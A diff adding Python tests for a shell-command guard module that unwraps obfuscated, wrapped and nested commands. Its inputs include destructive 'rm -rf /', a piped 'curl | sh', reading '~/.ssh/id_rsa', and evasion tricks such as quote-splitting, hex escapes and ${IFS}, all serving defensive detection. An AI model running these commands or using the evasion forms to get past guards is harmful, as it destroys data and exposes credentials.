@@ -1,0 +1,112 @@
+"""Unfolding: what a shell would really run, wrappers removed, nested code opened up."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from domestique.guard.unfold import MAX_DEPTH, read_script, unfold_command
+
+
+def argvs(command: str, cwd: str | None = None) -> list[list[str]]:
+    return [inv.argv for inv in unfold_command(command, cwd=cwd, read_file=read_script).invocations]
+
+
+def test_dequote_and_decode_command_names() -> None:
+    """c''url, "cu"rl, \\curl and $'\\x63url' are all curl."""
+    for text in ("c''url x", '"cu"rl x', "\\curl x", "$'\\x63url' x"):
+        assert argvs(text)[0] == ["curl", "x"]
+
+
+def test_wrappers_are_seen_through() -> None:
+    """sudo, env, timeout, nice, nohup, stdbuf, command, time and busybox are stripped."""
+    cmd = "sudo -u root env A=1 timeout 5 nice -n 2 nohup stdbuf -oL command time busybox rm -rf x"
+    u = unfold_command(cmd)
+    last = u.invocations[-1]
+    assert last.argv == ["rm", "-rf", "x"]
+    assert last.via[:3] == ("sudo", "env", "timeout")
+    assert last.env == {"A": "1"}
+
+
+def test_nested_shells_eval_and_heredocs() -> None:
+    """bash -c, eval, heredoc and here-string code are parsed and their commands listed."""
+    assert ["rm", "-rf", "/"] in argvs("bash -c 'sh -c \"rm -rf /\"'")
+    assert ["rm", "-rf", "/"] in argvs("eval 'rm -rf /'")
+    assert ["rm", "-rf", "/"] in argvs("bash <<EOF\nrm -rf /\nEOF")
+    assert ["rm", "-rf", "/"] in argvs("bash <<< 'rm -rf /'")
+    assert ["rm", "-rf", "/"] in argvs("echo 'rm -rf /' | sh")
+    assert ["rm", "-rf", "/"] in argvs('bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"')
+
+
+def test_pipe_into_shell_records_exec_data() -> None:
+    """The downloader's output is what sh runs."""
+    u = unfold_command("curl -s https://x | sh")
+    sh = u.invocations[-1]
+    assert sh.argv == ["sh"]
+    assert sh.exec_data == (0,)
+
+
+def test_variables_resolve_within_the_line() -> None:
+    """x=rm; $x -rf ~ runs rm; an unknown variable stays non-literal."""
+    assert argvs("x=rm; $x -rf ~")[-1] == ["rm", "-rf", "~"]
+    u = unfold_command("$y -rf ~")
+    assert not u.invocations[0].words[0].literal
+
+
+def test_ifs_splits_words() -> None:
+    """cat${IFS}~/.ssh/id_rsa is cat with one argument."""
+    assert argvs("cat${IFS}~/.ssh/id_rsa") == [["cat", "~/.ssh/id_rsa"]]
+
+
+def test_line_continuation_joins_words() -> None:
+    """rm -r\\<NL>f / is rm -rf / (bash), not rm -r f / (tree-sitter alone)."""
+    assert argvs("rm -r\\\nf /") == [["rm", "-rf", "/"]]
+
+
+def test_find_exec_and_xargs() -> None:
+    """find -exec and xargs run their inner command."""
+    assert ["rm", "-rf", "{}"] in argvs("find / -exec rm -rf {} \\;")
+    assert ["rm", "-rf"] in argvs("ls | xargs -n1 rm -rf")
+
+
+def test_parse_error_is_a_hit() -> None:
+    """Unbalanced syntax is engine.parse_error and parse_ok is false."""
+    u = unfold_command("echo $(ls")
+    assert not u.parse_ok
+    assert any(h.code == "engine.parse_error" for h in u.hits)
+
+
+def test_spans_point_into_the_command() -> None:
+    """An invocation's span slices the original text, after a multi-byte character too."""
+    cmd = "echo é; rm -rf /"
+    inv = unfold_command(cmd).invocations[-1]
+    assert cmd[inv.span[0] : inv.span[1]] == "rm -rf /"
+
+
+def test_script_file_is_read(tmp_path: Path) -> None:
+    """bash ./x.sh and ./x.sh are judged by their contents."""
+    script = tmp_path / "x.sh"
+    script.write_text("#!/bin/bash\nrm -rf ~\n")
+    assert ["rm", "-rf", "~"] in argvs("bash ./x.sh", cwd=str(tmp_path))
+    assert ["rm", "-rf", "~"] in argvs("./x.sh", cwd=str(tmp_path))
+    assert ["rm", "-rf", "~"] in argvs("sh < x.sh", cwd=str(tmp_path))
+
+
+def test_written_then_run_in_one_line() -> None:
+    """echo 'rm -rf ~' > x.sh && bash x.sh judges what was written."""
+    assert ["rm", "-rf", "~"] in argvs("echo 'rm -rf ~' > x.sh && bash x.sh", cwd="/nonexistent")
+
+
+def test_nesting_depth_is_bounded() -> None:
+    """Deep bash -c nesting stops with an opaque hit, not unbounded work."""
+    cmd = "true"
+    for _ in range(MAX_DEPTH + 3):
+        cmd = "bash -c " + "'" + cmd.replace("'", "'\\''") + "'"
+    u = unfold_command(cmd)
+    assert any(h.code == "cmd.opaque_command" for h in u.hits)
+
+
+def test_fd_digit_before_redirect_is_not_a_script() -> None:
+    """`sh 0<&2` is an interactive shell (bash reads 0 as the descriptor)."""
+    u = unfold_command("/bin/sh 0<&2 1>&2")
+    assert u.invocations[0].argv == ["/bin/sh"]
+    assert any(h.code == "cmd.interactive_shell" for h in u.hits)
